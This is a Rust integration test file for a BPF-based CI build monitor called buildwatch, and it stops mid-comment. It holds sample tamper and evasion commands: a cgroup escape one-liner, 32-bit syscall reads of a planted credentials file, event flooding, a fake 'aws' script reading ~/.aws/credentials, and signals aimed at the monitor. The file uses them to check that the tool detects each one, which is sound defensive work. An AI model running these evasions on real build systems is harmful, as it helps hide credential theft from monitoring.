//! The watched code acting against buildwatch, as root in a CI job can: bpf(2) calls are
//! events and critical findings, reported before they take effect, and the loss counters
//! cannot be rewritten through bpf(2).

use std::{
    fs,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use buildwatch_tests::*;

const TRIGGER: &str = env!("CARGO_BIN_EXE_bw-trigger");

/// Tests take this shared; the two that must be alone take it exclusively: one writes into
/// every loaded COUNTERS map (another run's, still loading, would not be frozen yet), one
/// times how fast a run dies.
static ALONE: std::sync::RwLock<()> = std::sync::RwLock::new(());

fn shared() -> std::sync::RwLockReadGuard<'static, ()> {
    ALONE.read().unwrap_or_else(|e| e.into_inner())
}

fn alone() -> std::sync::RwLockWriteGuard<'static, ()> {
    ALONE.write().unwrap_or_else(|e| e.into_inner())
}

/// Root in the run finds buildwatch's loss counters and writes zeros into them (how a flood
/// that lost a credential read would be hidden from `fail_on_lost`): the write is refused,
/// and the bpf(2) calls are a critical finding.
#[test]
fn loss_counters_cannot_be_zeroed_and_bpf_calls_are_critical() {
    if !require_bpf() {
        return;
    }
    let _guard = alone();
    let tmp = TempDir::new("tamper-bpf");
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &[],
        &[TRIGGER, "zero-map", "COUNTERS"],
    );
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    // The trigger found the counters (this run's at least) and every write was refused.
    assert!(
        stdout.contains("COUNTERS refused 1"),
        "{stdout}\n{}",
        w.stderr()
    );
    assert!(!stdout.contains("written"), "{stdout}");
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());

    let evs = w.events();
    let update = evs
        .iter()
        .find(|e| e["kind"] == "bpf" && e["bpf"]["cmd"] == "map_update_elem")
        .unwrap_or_else(|| panic!("no bpf map_update_elem event: {}", w.stderr()));
    assert_eq!(update["exe"], TRIGGER);
    assert_eq!(update["bpf"]["cmd_raw"], 2);
    assert!(
        evs.iter()
            .any(|e| e["kind"] == "bpf" && e["bpf"]["cmd"] == "map_get_fd_by_id")
    );
    let f = w.finding("bpf-call-in-build");
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["category"], "tamper");
    assert_eq!(f["process"]["exe"], TRIGGER);
    assert_replay_matches(&w, tmp.path(), &[]);
}

/// Flooding is the cheapest way to hide a credential read among lost events: a run that lost
/// events fails by default, with its own reason, and passes only when the policy accepts
/// the loss.
#[test]
fn a_run_that_lost_events_fails_unless_the_policy_accepts_it() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("tamper-flood");
    let f = tmp.join("f");
    std::fs::write(&f, "x").unwrap();
    let f = f.to_str().unwrap().to_owned();
    // A 4 KiB ring holds a few dozen records: 100,000 opens overflow it.
    let flood = [TRIGGER, "open-loop", "100000", &f];
    let w = watch(&tmp, tmp.path(), &[], &["--ring-size", "4096"], &flood);
    let lost = w.report["events"]["lost"].as_u64().unwrap();
    assert!(lost > 0, "{}", w.stderr());
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let reasons = w.report["verdict"]["reasons"].to_string();
    assert!(reasons.contains("lost"), "{reasons}");
    assert!(w.stderr().contains("cannot vouch"), "{}", w.stderr());

    let policy = tmp.join("accept-loss.yaml");
    std::fs::write(&policy, "fail_on_lost: false\n").unwrap();
    let tmp2 = TempDir::new("tamper-flood-ok");
    let w = watch(
        &tmp2,
        tmp2.path(),
        &[],
        &["--ring-size", "4096", "--policy", policy.to_str().unwrap()],
        &flood,
    );
    assert!(w.report["events"]["lost"].as_u64().unwrap() > 0);
    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
}

/// The one-line escape, `echo $$ > <cgroup2 root>/cgroup.procs`: the kernel kills the shell
/// when it opens the file, before it can write, and the run fails with a critical finding. A
/// move into a sub-cgroup of the run stays inside and is not an escape.
#[test]
fn a_process_cannot_move_itself_out_of_the_run() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let root = cgroup2_root().expect("a cgroup v2 mount");
    let procs = root.join("cgroup.procs");
    let tmp = TempDir::new("tamper-escape");
    let script = format!(
        "echo $$ > {procs}; echo escaped; sleep 3; cat /etc/hostname",
        procs = procs.display()
    );
    let w = watch(&tmp, tmp.path(), &[], &[], &["/bin/sh", "-c", &script]);
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    assert!(!stdout.contains("escaped"), "the shell ran on: {stdout}");
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    // SIGKILL: the command's own status is 128+9.
    assert_eq!(w.report["exit_code"], 137, "{}", w.stderr());
    let evs = w.events();
    let open = evs
        .iter()
        .find(|e| e["kind"] == "open" && e["open"]["path"] == procs.to_str().unwrap())
        .unwrap_or_else(|| panic!("no open of {}: {}", procs.display(), w.stderr()));
    assert_eq!(open["open"]["cgroup_outside"], true, "{open:#}");
    assert_eq!(open["open"]["killed"], true, "{open:#}");
    let f = w.finding("cgroup-write-outside-run");
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["category"], "tamper");
    assert_eq!(f["detail"]["killed"], true);
    // Nothing ran outside the run afterwards: no straggler, and the shell never got to cat.
    assert!(
        !evs.iter().any(|e| e["kind"] == "straggler"),
        "{}",
        w.stderr()
    );
    assert!(
        !evs.iter()
            .any(|e| e["kind"] == "exec" && e["exec"]["path"] == "/usr/bin/cat")
    );
    assert_replay_matches(&w, tmp.path(), &[]);

    // Inside the run: a sub-cgroup of its own is fine.
    let tmp = TempDir::new("tamper-subcgroup");
    let script = format!(
        "cg={root}$(sed -n 's/^0:://p' /proc/self/cgroup) && mkdir $cg/sub && \
         echo $$ > $cg/sub/cgroup.procs && echo moved-inside",
        root = root.display()
    );
    let w = watch(&tmp, tmp.path(), &[], &[], &["/bin/sh", "-c", &script]);
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    assert!(stdout.contains("moved-inside"), "{stdout}\n{}", w.stderr());
    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
    assert!(!w.rules().contains(&"cgroup-write-outside-run".to_owned()));
}

/// A 32-bit syscall (`int 0x80` from a 64-bit process) passes every syscall tracepoint by:
/// without the run's seccomp filter this reads the credentials file and no open is reported.
/// With it the process is killed before the open runs, and the kill is a critical finding.
/// Setuid tools still work under the filter: it is installed without no_new_privs.
#[test]
fn a_32bit_syscall_is_refused_and_reported() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("tamper-int80");
    let creds = tmp.join("credentials");
    fs::write(&creds, "aws_secret_access_key=int80-secret\n").unwrap();
    // Unwatched, the read works: the hole is there to close. A kernel without the 32-bit
    // entry (IA32 emulation off) answers int 0x80 with SIGSEGV: nothing to refuse there.
    let bare = Command::new(TRIGGER)
        .args(["int80-read", creds.to_str().unwrap()])
        .output()
        .unwrap();
    if std::os::unix::process::ExitStatusExt::signal(&bare.status) == Some(libc::SIGSEGV) {
        eprintln!("this kernel has no 32-bit syscall entry: nothing to refuse");
        return;
    }
    assert!(
        String::from_utf8_lossy(&bare.stdout).contains("int80-secret"),
        "{bare:?}"
    );
    let script = format!(
        "{t} int80-read {c}; echo \"status $?\"; {t} nosys; echo \"nosys $?\"",
        t = TRIGGER,
        c = creds.display()
    );
    let w = watch(&tmp, tmp.path(), &[], &[], &["/bin/sh", "-c", &script]);
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    assert!(
        !stdout.contains("int80-secret"),
        "read through int 0x80: {stdout}"
    );
    // SIGSYS: 128+31.
    assert!(stdout.contains("status 159"), "{stdout}\n{}", w.stderr());
    // A syscall number no syscall has (-1) is not a 32-bit syscall: ENOSYS, not a kill.
    assert!(stdout.contains("nosys 0"), "{stdout}\n{}", w.stderr());
    let f = w.finding("syscall-32bit-killed");
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["category"], "tamper");
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    let evs = w.events();
    let exit = evs
        .iter()
        .find(|e| e["kind"] == "exit" && e["exe"] == TRIGGER)
        .unwrap_or_else(|| panic!("no exit of the trigger: {}", w.stderr()));
    assert_eq!(exit["exit"]["signal_name"], "SIGSYS", "{exit:#}");
    assert!(w.report.get("allow_32bit_syscalls").is_none());

    // Allowed on request: the call goes through unseen, and the report says it was allowed.
    let tmp = TempDir::new("tamper-int80-allowed");
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &["--allow-32bit-syscalls"],
        &["/bin/sh", "-c", &script],
    );
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    assert!(stdout.contains("int80-secret"), "{stdout}\n{}", w.stderr());
    assert!(!w.rules().contains(&"syscall-32bit-killed".to_owned()));
    assert_eq!(w.report["allow_32bit_syscalls"], true, "{}", w.stderr());
    assert!(
        w.stderr().contains("32-bit syscalls allowed"),
        "{}",
        w.stderr()
    );
    // What the run recorded carries the choice: its replay reports the same, and its SARIF
    // says so in a form code scanning takes.
    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
    let sarif = tmp.join("report.sarif");
    assert_replay_matches(&w, tmp.path(), &["--sarif", sarif.to_str().unwrap()]);
    let (errors, _) = validate_sarif(&sarif);
    assert!(errors.is_empty(), "{errors:#?}");
    let sarif: serde_json::Value = serde_json::from_slice(&fs::read(&sarif).unwrap()).unwrap();
    let inv = &sarif["runs"][0]["invocations"][0];
    assert_eq!(inv["properties"]["allow32bitSyscalls"], true, "{inv:#}");
    assert_eq!(
        inv["toolExecutionNotifications"][0]["level"], "warning",
        "{inv:#}"
    );

    // An ordinary user's sudo under the filter gets as far as asking for a password (with
    // no_new_privs it would refuse to start as root at all).
    let tmp = TempDir::new("tamper-int80-sudo");
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &["--user", "nobody"],
        &["/bin/sh", "-c", "sudo -n true"],
    );
    let stderr = w.stderr();
    assert!(!stderr.contains("no new privileges"), "{stderr}");
    assert!(stderr.contains("a password is required"), "{stderr}");
}

/// `buildwatch run --report REPORT -- cmd`, started (stderr piped, for the test to read or
/// break).
fn spawn_reporting(report: &std::path::Path, cmd: &[&str]) -> std::process::Child {
    Command::new(buildwatch_bin())
        .env_remove("SUDO_UID")
        .arg("run")
        .arg("--report")
        .arg(report)
        .arg("--")
        .args(cmd)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// The processes of buildwatch `pid`'s run, once its command is up (bounded wait).
fn run_pids(bw_pid: u32, at_least: usize) -> (std::path::PathBuf, Vec<u32>) {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        if let Some(cg) = cgroups_named(&format!("buildwatch-{bw_pid}-"))
            .into_iter()
            .next()
        {
            let pids: Vec<u32> = std::fs::read_to_string(cg.join("cgroup.procs"))
                .unwrap_or_default()
                .lines()
                .filter_map(|l| l.parse().ok())
                .collect();
            if pids.len() >= at_least {
                return (cg, pids);
            }
        }
        assert!(Instant::now() < deadline, "the run never started");
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn alive(pid: u32) -> bool {
    // A zombie is dead for this purpose: it runs nothing.
    std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| {
        s.rsplit(')')
            .next()
            .is_some_and(|r| !r.trim_start().starts_with('Z'))
    })
}

/// The guardian of buildwatch `bw_pid`: its child started as `buildwatch-guardian`.
fn guardian_of(bw_pid: u32) -> u32 {
    let children = std::fs::read_to_string(format!("/proc/{bw_pid}/task/{bw_pid}/children"))
        .unwrap_or_default();
    children
        .split_whitespace()
        .filter_map(|p| p.parse::<u32>().ok())
        .find(|p| {
            std::fs::read(format!("/proc/{p}/cmdline"))
                .is_ok_and(|c| c.starts_with(b"buildwatch-guardian\0"))
        })
        .unwrap_or_else(|| panic!("buildwatch {bw_pid} has no guardian: children {children}"))
}

/// SIGKILL cannot be caught: when buildwatch dies, its guardian kills the whole run within a
/// second and writes the report, which says the run cannot be vouched for.
#[test]
fn buildwatch_killed_mid_run_takes_the_run_with_it_and_leaves_a_report() {
    if !require_bpf() {
        return;
    }
    let _guard = alone();
    let tmp = TempDir::new("tamper-sigkill");
    let report = tmp.join("report.json");
    let mut bw = spawn_reporting(&report, &["sh", "-c", "sleep 300 & sleep 300; wait"]);
    let (cg, pids) = run_pids(bw.id(), 3);
    bw.kill().unwrap();
    let killed = Instant::now();
    // Not waiting for buildwatch first: a process with BPF links takes seconds to finish
    // dying (a grace period per link), and the run must not live that long.
    while pids.iter().any(|&p| alive(p)) && killed.elapsed() < Duration::from_secs(5) {
        std::thread::sleep(Duration::from_millis(10));
    }
    let dead_after = killed.elapsed();
    bw.wait().unwrap();
    assert!(
        pids.iter().all(|&p| !alive(p)),
        "the run outlived buildwatch: {pids:?}"
    );
    assert!(dead_after < Duration::from_secs(1), "took {dead_after:?}");
    // The guardian's report (it writes it after the kill; bounded wait).
    let deadline = Instant::now() + Duration::from_secs(5);
    while !report.exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    let r: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&report).expect("the guardian's report")).unwrap();
    assert_eq!(r["written_by"], "guardian", "{r:#}");
    assert_eq!(r["verdict"]["failed"], true);
    assert_eq!(r["verdict"]["exit_status"], 86);
    let reasons = r["verdict"]["reasons"].to_string();
    assert!(reasons.contains("buildwatch died"), "{reasons}");
    assert!(reasons.contains("cannot be vouched for"), "{reasons}");
    // And the cgroup is gone.
    let deadline = Instant::now() + Duration::from_secs(5);
    while cg.exists() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(!cg.exists(), "{} left behind", cg.display());
}

/// Killing the guardian (to then kill buildwatch unnoticed) fails the run.
#[test]
fn a_killed_guardian_fails_the_run() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("tamper-guardian");
    let report = tmp.join("report.json");
    let bw = spawn_reporting(&report, &["sleep", "1.5"]);
    run_pids(bw.id(), 1);
    let guardian = guardian_of(bw.id());
    assert_eq!(unsafe { libc::kill(guardian as i32, libc::SIGKILL) }, 0);
    let out = bw.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(86), "{stderr}");
    let r: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    let reasons = r["verdict"]["reasons"].to_string();
    assert!(reasons.contains("guardian died"), "{reasons}");
    assert!(stderr.contains("guardian died"), "{stderr}");
}

/// A broken stderr (the CI log's pipe closed) does not stop buildwatch from writing the report.
#[test]
fn a_broken_stderr_still_leaves_the_report() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("tamper-stderr");
    let report = tmp.join("report.json");
    let mut bw = spawn_reporting(&report, &["sh", "-c", "sleep 0.5; cat /etc/hostname"]);
    drop(bw.stderr.take());
    let status = bw.wait().unwrap();
    let r: serde_json::Value = serde_json::from_slice(
        &std::fs::read(&report).unwrap_or_else(|e| panic!("no report ({e}), status {status}")),
    )
    .unwrap();
    assert_eq!(r["exit_code"], 0, "{r:#}");
    assert!(
        r["events"]["by_kind"]["exec"].as_u64().unwrap() >= 2,
        "{r:#}"
    );
}

fn sha256_of(path: &std::path::Path) -> String {
    let out = Command::new("sha256sum").arg(path).output().unwrap();
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned()
}

/// Every output names the policy that judged the run, with its SHA-256; and a build that
/// writes a `.buildwatch.yaml` (for the next run in the workspace to load) is a finding.
#[test]
fn outputs_name_the_policy_and_a_planted_policy_is_a_finding() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("tamper-policy");
    let rules = tmp.join("extra-rules.yaml");
    std::fs::write(&rules, "- list: extra_tools\n  items: [nothing]\n").unwrap();
    let policy = tmp.join("policy.yaml");
    std::fs::write(&policy, "fail_on: high\nrule_files: [extra-rules.yaml]\n").unwrap();
    let sarif = tmp.join("out.sarif");
    let md = tmp.join("summary.md");
    let planted = tmp.join("ws/.buildwatch.yaml");
    std::fs::create_dir(tmp.join("ws")).unwrap();
    let script = format!(
        "printf 'rules:\\n  - rule: sensitive-file-read\\n    enabled: false\\n' > {}",
        planted.display()
    );
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &[
            "--policy",
            policy.to_str().unwrap(),
            "--sarif",
            sarif.to_str().unwrap(),
            "--summary-md",
            md.to_str().unwrap(),
        ],
        &["/bin/sh", "-c", &script],
    );
    let files = w.report["policy_files"].as_array().unwrap();
    assert_eq!(files.len(), 2, "{files:#?}");
    assert_eq!(files[0]["kind"], "policy");
    assert_eq!(files[0]["path"], policy.to_str().unwrap());
    assert_eq!(files[0]["sha256"], sha256_of(&policy));
    assert_eq!(files[1]["kind"], "rules");
    assert_eq!(files[1]["sha256"], sha256_of(&rules));
    let stderr = w.stderr();
    assert!(
        stderr.contains(&format!("sha256 {}", &sha256_of(&policy)[..12])),
        "{stderr}"
    );
    let s: serde_json::Value = serde_json::from_slice(&std::fs::read(&sarif).unwrap()).unwrap();
    assert_eq!(
        s["runs"][0]["invocations"][0]["properties"]["policyFiles"][0]["sha256"],
        sha256_of(&policy)
    );
    let summary = std::fs::read_to_string(&md).unwrap();
    assert!(summary.contains(&sha256_of(&rules)), "{summary}");

    let f = w.finding("policy-file-written");
    assert_eq!(f["severity"], "high");
    assert_eq!(f["detail"]["path"], planted.to_str().unwrap());
    assert_eq!(w.out.status.code(), Some(86), "{stderr}");
}

/// The uid and HOME the command saw, from its stdout (`id -u; echo $HOME`).
fn who(w: &Watched) -> (String, String) {
    let out = String::from_utf8_lossy(&w.out.stdout).into_owned();
    let mut lines = out.lines();
    (
        lines.next().unwrap_or_default().to_owned(),
        lines.next().unwrap_or_default().to_owned(),
    )
}

/// Started through sudo, buildwatch runs the build as the user who invoked sudo (here the
/// SUDO_UID sudo sets, for nobody), with that user's HOME; `--user` picks another, and
/// `--user root` keeps root. A build that then runs sudo is a finding.
#[test]
fn the_command_runs_as_the_invoking_user() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("user-sudo");
    let script = ["/bin/sh", "-c", "id -u; echo $HOME"];
    let sudo_env = [
        ("SUDO_UID", "65534".to_owned()),
        ("SUDO_GID", "65534".to_owned()),
        ("SUDO_USER", "nobody".to_owned()),
    ];
    let w = watch(&tmp, tmp.path(), &sudo_env, &[], &script);
    assert_eq!(w.out.status.code(), Some(0), "{}", w.stderr());
    assert_eq!(
        who(&w),
        ("65534".into(), "/nonexistent".into()),
        "{}",
        w.stderr()
    );

    let tmp = TempDir::new("user-root");
    let w = watch(&tmp, tmp.path(), &sudo_env, &["--user", "root"], &script);
    assert_eq!(who(&w).0, "0", "{}", w.stderr());

    let tmp = TempDir::new("user-flag");
    let w = watch(&tmp, tmp.path(), &[], &["--user", "nobody"], &script);
    assert_eq!(who(&w).0, "65534", "{}", w.stderr());

    // A bad user stops the run before anything runs.
    let tmp = TempDir::new("user-bad");
    let out = Command::new(buildwatch_bin())
        .current_dir(tmp.path())
        .env_remove("SUDO_UID")
        .args(["run", "--user", "no-such-user-bw", "--", "touch", "ran"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no such user"));
    assert!(!tmp.join("ran").exists());
}

/// The real thing: an ordinary user (nobody, allowed by a sudoers entry for this test only)
/// runs `sudo buildwatch -- id -u`, and the build runs as that user; running sudo inside the
/// build is a high finding.
#[test]
fn sudo_buildwatch_builds_as_the_invoking_user() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let sudo = ["/usr/bin/sudo", "/bin/sudo"]
        .into_iter()
        .find(|p| std::path::Path::new(p).exists())
        .expect("sudo is installed (scripts/setup.sh)");
    let bin = buildwatch_bin();
    let entry = format!("/etc/sudoers.d/bw-test-{}", std::process::id());
    struct Remove(String);
    impl Drop for Remove {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
    std::fs::write(
        &entry,
        format!("nobody ALL=(root) NOPASSWD: {}\n", bin.display()),
    )
    .unwrap();
    let _remove = Remove(entry.clone());
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&entry, std::fs::Permissions::from_mode(0o440)).unwrap();
    let tmp = TempDir::new("user-realsudo");
    let report = tmp.join("report.json");
    let out = Command::new("/usr/sbin/runuser")
        .current_dir(tmp.path())
        .args(["-u", "nobody", "--", sudo, "-n"])
        .arg(&bin)
        .arg("run")
        .arg("--report")
        .arg(&report)
        .args([
            "--",
            "/bin/sh",
            "-c",
            "id -u; sudo -n true 2>/dev/null; true",
        ])
        .env_remove("SUDO_UID")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(stdout.lines().next(), Some("65534"), "{stdout}\n{stderr}");
    let r: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    let rules = r["findings"].to_string();
    assert!(
        rules.contains("privilege-tool-in-build"),
        "{rules}\n{stderr}"
    );
    assert_eq!(out.status.code(), Some(86), "{stderr}");
}

/// The connect race: a second thread rewrites the sockaddr while a blocking connect is in
/// flight. The destination reported is the one the kernel connects to (the connect hook's
/// copy), not what the caller's memory says afterwards.
#[test]
fn a_rewritten_sockaddr_does_not_change_the_destination() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("net-race");
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &[],
        &[TRIGGER, "connect-race", "127.0.0.31", "127.0.0.32", "443"],
    );
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    assert!(
        stdout.starts_with("connect -1"),
        "the connect did not block: {stdout}"
    );
    let evs = w.events();
    let connects: Vec<_> = evs.iter().filter(|e| e["kind"] == "connect").collect();
    assert!(
        !connects
            .iter()
            .any(|e| e["connect"]["address"] == "127.0.0.32"),
        "the decoy was reported: {connects:#?}"
    );
    // Two fillers and the raced connect, all to the real listener.
    assert_eq!(
        connects
            .iter()
            .filter(|e| e["connect"]["address"] == "127.0.0.31")
            .count(),
        3,
        "{connects:#?}"
    );
}

/// TCP Fast Open connects through sendto(MSG_FASTOPEN), without connect(2): still seen, as
/// an attempt whose result is not known.
#[test]
fn tcp_fast_open_is_seen() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let listener = std::net::TcpListener::bind("127.0.0.33:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let tmp = TempDir::new("net-tfo");
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &[],
        &[TRIGGER, "tfo", "127.0.0.33", &port.to_string()],
    );
    let evs = w.events();
    let c = evs
        .iter()
        .find(|e| e["kind"] == "connect" && e["connect"]["address"] == "127.0.0.33")
        .unwrap_or_else(|| panic!("no connect for the TFO send: {}", w.stderr()));
    assert_eq!(c["connect"]["port"], port, "{c:#}");
    assert_eq!(c["connect"]["result_unknown"], true, "{c:#}");
    assert_eq!(c["exe"], TRIGGER);
    drop(listener);
}

/// A connect through io_uring (IORING_OP_CONNECT: no connect(2)) is seen by the same cgroup
/// hook, with the kernel's copy of the address and no result.
#[test]
fn io_uring_connects_are_seen() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let listener = std::net::TcpListener::bind("127.0.0.34:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let tmp = TempDir::new("net-uring-connect");
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &[],
        &[TRIGGER, "uring-connect", "127.0.0.34", &port.to_string()],
    );
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    assert!(stdout.contains("uring-connect 0"), "{stdout}");
    let evs = w.events();
    let c = evs
        .iter()
        .find(|e| e["kind"] == "connect" && e["connect"]["address"] == "127.0.0.34")
        .unwrap_or_else(|| panic!("no connect for the io_uring request: {}", w.stderr()));
    assert_eq!(c["connect"]["port"], port, "{c:#}");
    assert_eq!(c["connect"]["result_unknown"], true, "{c:#}");
    assert_eq!(c["exe"], TRIGGER);
    drop(listener);
}

/// A raw socket made through io_uring (IORING_OP_SOCKET: no socket(2)) is the same event and
/// finding as one from socket(2), without a result; an ordinary one is not an event.
#[test]
fn io_uring_raw_sockets_are_findings() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("net-uring-raw");
    let w = watch(&tmp, tmp.path(), &[], &[], &[TRIGGER, "uring-raw-socket"]);
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    assert!(
        !stdout.contains("-"),
        "socket creation failed as root: {stdout}"
    );
    let evs = w.events();
    let sockets: Vec<_> = evs.iter().filter(|e| e["kind"] == "socket").collect();
    assert_eq!(sockets.len(), 1, "{sockets:#?}");
    let s = &sockets[0]["socket"];
    assert_eq!(s["family"], "inet6");
    assert_eq!(s["type"], "raw");
    assert_eq!(s["protocol"], 58);
    assert_eq!(s["result_unknown"], true);
    assert_eq!(w.finding("raw-socket-in-build")["severity"], "high");
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    assert_replay_matches(&w, tmp.path(), &[]);
}

/// Raw and packet sockets (forging packets, sniffing) are events and a high finding;
/// ordinary ones (TCP, and netlink's SOCK_RAW, which getaddrinfo opens) are not events.
#[test]
fn raw_and_packet_sockets_are_findings() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("net-raw");
    let w = watch(&tmp, tmp.path(), &[], &[], &[TRIGGER, "raw-sockets"]);
    let stdout = String::from_utf8_lossy(&w.out.stdout).into_owned();
    assert!(
        !stdout.contains("-1"),
        "socket creation failed as root: {stdout}"
    );
    let evs = w.events();
    let sockets: Vec<_> = evs.iter().filter(|e| e["kind"] == "socket").collect();
    assert_eq!(sockets.len(), 2, "{sockets:#?}");
    assert_eq!(sockets[0]["socket"]["family"], "packet");
    assert_eq!(sockets[0]["socket"]["type"], "raw");
    assert!(sockets[0]["socket"]["ret"].as_i64().unwrap() >= 0);
    assert_eq!(sockets[1]["socket"]["family"], "inet");
    assert_eq!(sockets[1]["socket"]["type"], "raw");
    assert_eq!(sockets[1]["socket"]["protocol"], 17);
    let f = w.finding("raw-socket-in-build");
    assert_eq!(f["severity"], "high");
    // One finding per kind of socket.
    let n = w
        .rules()
        .iter()
        .filter(|r| *r == "raw-socket-in-build")
        .count();
    assert_eq!(n, 2);
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    assert_replay_matches(&w, tmp.path(), &[]);
}

/// Signals aimed at buildwatch (its pid is the command's parent) are critical, reported
/// before delivery; a signal to the build's own process group is an event, and only SIGKILL
/// or SIGSTOP there is a finding; kill -0 (a probe) is nothing.
#[test]
fn signals_aimed_at_buildwatch_are_critical() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("tamper-signal");
    let w = watch(
        &tmp,
        tmp.path(),
        &[],
        &[],
        &[
            "/bin/sh",
            "-c",
            // sigqueue(3) is rt_sigqueueinfo; the pidfd is buildwatch's /proc directory, not
            // one from pidfd_open (which is reported on its own).
            "kill -CONT $PPID; kill -0 $PPID; kill -CONT 0; python3 -c \"import ctypes, os, \
             signal, sys; bw = int(sys.argv[1]); ctypes.CDLL(None).sigqueue(bw, \
             signal.SIGCONT, 0); signal.pidfd_send_signal(os.open('/proc/%d' % bw, \
             os.O_RDONLY | os.O_DIRECTORY), signal.SIGCONT)\" $PPID; echo $PPID",
        ],
    );
    let bw_pid: i64 = String::from_utf8_lossy(&w.out.stdout)
        .trim()
        .parse()
        .unwrap();
    let evs = w.events();
    let signals: Vec<_> = evs.iter().filter(|e| e["kind"] == "signal").collect();
    assert_eq!(signals.len(), 4, "{signals:#?}");
    assert_eq!(signals[0]["signal"]["aimed_at"], "buildwatch");
    assert_eq!(signals[0]["signal"]["target"], bw_pid);
    assert_eq!(signals[0]["signal"]["signal_name"], "SIGCONT");
    assert_eq!(signals[1]["signal"]["aimed_at"], "own-group");
    assert_eq!(signals[1]["signal"]["target"], 0);
    for (s, call) in signals[2..]
        .iter()
        .zip(["rt_sigqueueinfo", "pidfd_send_signal"])
    {
        assert_eq!(s["signal"]["call"], call, "{s:#?}");
        assert_eq!(s["signal"]["aimed_at"], "buildwatch");
        assert_eq!(s["signal"]["target"], bw_pid);
        assert_eq!(s["signal"]["signal_name"], "SIGCONT");
    }
    let f = w.finding("signal-to-buildwatch");
    assert_eq!(f["severity"], "critical");
    assert!(!w.rules().contains(&"kill-own-process-group".to_owned()));
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    assert_replay_matches(&w, tmp.path(), &[]);
}

/// A script that calls itself `aws` in the workspace is not the AWS CLI: the owning-tool
/// exception checks that the tool's own file is installed software not written during the
/// run, so its read of ~/.aws/credentials is a finding.
#[test]
fn a_tool_named_like_the_owner_is_not_trusted() {
    if !require_bpf() {
        return;
    }
    let _guard = shared();
    let tmp = TempDir::new("tamper-owner");
    let home = tmp.join("home");
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    std::fs::write(home.join(".aws/credentials"), "[default]\n").unwrap();
    std::fs::write(
        tmp.join("aws"),
        "import os\nopen(os.path.expanduser('~/.aws/credentials')).read()\n",
    )
    .unwrap();
    let w = watch(
        &tmp,
        tmp.path(),
        &[("HOME", home.display().to_string())],
        &[],
        &["python3", "./aws", "s3", "ls"],
    );
    let f = w.finding("sensitive-file-read");
    assert_eq!(
        f["process"]["exe"].as_str().map(|e| e.contains("python")),
        Some(true)
    );
    assert_eq!(w.out.status.code(), Some(86), "{}", w.stderr());
    assert_replay_matches(&w, tmp.path(), &[]);
}

/// A child made directly in another cgroup (clone3 with CLONE_INTO_CGROUP, which needs only
